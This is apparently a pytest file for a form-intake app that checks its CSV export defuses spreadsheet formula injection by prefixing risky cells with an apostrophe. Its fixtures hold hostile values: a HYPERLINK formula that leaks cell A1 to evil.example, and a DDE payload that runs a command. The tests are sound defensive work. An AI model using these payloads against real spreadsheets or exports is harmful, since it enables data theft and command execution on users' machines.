"""CSV formula injection in `intake submissions export --format csv`.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (also after leading
spaces or line breaks), or with a tab or a carriage return, as a formula. Every such
cell, the header's field names included, is prefixed with `'` (OWASP), numbers and
phone numbers too (docs/decisions.md "Exports"); the JSON Lines export and the listing
keep every value exactly as it was sent.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.testclient import TestClient

from intake.domain.model import Submission, SubmissionStatus
from intake.presentation.exports import csv_header, csv_line, csv_record
from tests.cli.conftest import Cli, submit

TRIGGERS = ("=", "+", "-", "@")

HOSTILE_VALUES = {
    "equals": "=1+1",
    "hyperlink": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+2",
    "minus": "-1+2",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
    "space_then_equals": "  =1+1",
    "newline_then_at": "\n@SUM(1)",
    "nbsp_then_plus": "\u00a0+1",
    "negative_number": "-5",
    "phone": "+44 20 7946 0000",
    "tab_alone": "\tplain",
}
SAFE_VALUES = {
    "plain": "hello",
    "inner_equals": "a=b",
    "number": "5",
    "quote_first": "'already text",
    "email_like": "ada@example.com",
}


def _defused(text: str) -> bool:
    """A cell a spreadsheet shows as text, never runs."""
    return text.startswith("'") or not (
        text.startswith(("\t", "\r")) or text.lstrip().startswith(TRIGGERS)
    )


def _rows(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out, newline="")))


def _form(cli: Cli) -> dict[str, Any]:
    workspace_id = cli.json("workspace", "create", "--name", "Acme")["workspace_id"]
    return cli.json("form", "create", "--workspace", workspace_id)


def _export(cli: Cli, form_id: str, fmt: str) -> str:
    result = cli("submissions", "export", "--form", form_id, "--format", fmt)
    assert result.code == 0, result.err
    return result.out


def test_every_exported_cell_that_a_spreadsheet_would_run_is_prefixed(
    cli: Cli, http: TestClient
) -> None:
    form = _form(cli)
    submit(http, form["public_form_key"], {**HOSTILE_VALUES, **SAFE_VALUES})

    header, row = _rows(_export(cli, form["form_id"], "csv"))

    cells = dict(zip(header, row, strict=True))
    for name, value in HOSTILE_VALUES.items():
        assert cells[name] == "'" + value, name
    for name, value in SAFE_VALUES.items():
        assert cells[name] == value, name
    assert all(_defused(cell) for cell in header + row)


def test_field_names_a_sender_chose_are_prefixed_in_the_header(cli: Cli, http: TestClient) -> None:
    form = _form(cli)
    names = ['=HYPERLINK("https://evil.example")', "+name", "-name", "@name", " =name"]
    submit(http, form["public_form_key"], dict.fromkeys(names, "value"))

    header, row = _rows(_export(cli, form["form_id"], "csv"))

    assert header[5:] == ["'" + name for name in names]
    assert row[5:] == ["value"] * len(names)
    assert all(_defused(cell) for cell in header)


def test_the_subject_lists_and_numbers_are_prefixed_too(cli: Cli, http: TestClient) -> None:
    form = _form(cli)
    submit(
        http,
        form["public_form_key"],
        {"_subject": "=1+1", "tags": ["=evil()", "b"], "count": -5, "nested": {"a": "=x"}},
    )

    header, row = _rows(_export(cli, form["form_id"], "csv"))

    cells = dict(zip(header, row, strict=True))
    assert cells["subject"] == "'=1+1"
    assert cells["tags"] == "'=evil(), b"
    assert cells["count"] == "'-5"
    assert cells["nested"] == '{"a": "=x"}'  # JSON text starts with `{`: nothing to run


def test_the_json_lines_export_and_the_listing_keep_raw_values(cli: Cli, http: TestClient) -> None:
    form = _form(cli)
    names = {"=name": "=1+1"}
    sent = {**HOSTILE_VALUES, **names, "_subject": "=1+1"}
    submission_id = submit(http, form["public_form_key"], sent)

    (line,) = _export(cli, form["form_id"], "jsonl").splitlines()
    listed = cli.json("submissions", "list", "--form", form["form_id"])["submissions"]

    exported = json.loads(line)
    assert exported["submission_id"] == submission_id
    assert exported["data"] == {**HOSTILE_VALUES, **names}
    assert exported["subject"] == "=1+1"
    assert listed[0]["data"] == exported["data"]


# -- every text --------------------------------------------------------------------------

_CELL_TEXT = st.one_of(
    st.text(max_size=20),
    st.builds(
        lambda ws, trigger, rest: ws + trigger + rest,
        st.text(alphabet=" \t\r\n\u00a0\u2028\x0b\x0c", max_size=3),
        st.sampled_from([*TRIGGERS, "\t", "\r", "'", "a", "1"]),
        st.text(max_size=10),
    ),
)


def _submission(subject: str, data: dict[str, Any]) -> Submission:
    return Submission(
        submission_id="sub_0000000000000000000000000000a",
        form_id="frm_a",
        workspace_id="ws_a",
        status=SubmissionStatus.ACCEPTED,
        data=data,
        created_at=datetime(2026, 1, 15, tzinfo=UTC),
        subject=subject,
        reply_to=None,
        spam_score=0.0,
        client_ip="203.0.113.5",
    )


@given(name=_CELL_TEXT, value=_CELL_TEXT, subject=_CELL_TEXT, items=st.lists(_CELL_TEXT))
def test_no_generated_text_becomes_a_cell_a_spreadsheet_would_run(
    name: str, value: str, subject: str, items: list[str]
) -> None:
    row = _submission(subject, {name: value, name + "_list": items})
    fields = [name, name + "_list"]

    header, record = _rows(csv_line(csv_header(fields)) + csv_line(csv_record(row, fields)))

    assert all(_defused(cell) for cell in header + record), (header, record)
    # Defusing only ever adds the one quote: what was sent can be read back.
    assert header[5] in (name, "'" + name)
    assert record[5] in (value, "'" + value)
    assert record[3] in (subject, "'" + subject)


@pytest.mark.parametrize("value", ["-5", "+44 20 7946 0000", "-0.5", "+1"])
def test_numbers_and_phone_numbers_are_prefixed_as_owasp_advises(value: str) -> None:
    row = _submission("", {"n": value})

    record = csv_record(row, ["n"])

    assert record[5] == "'" + value
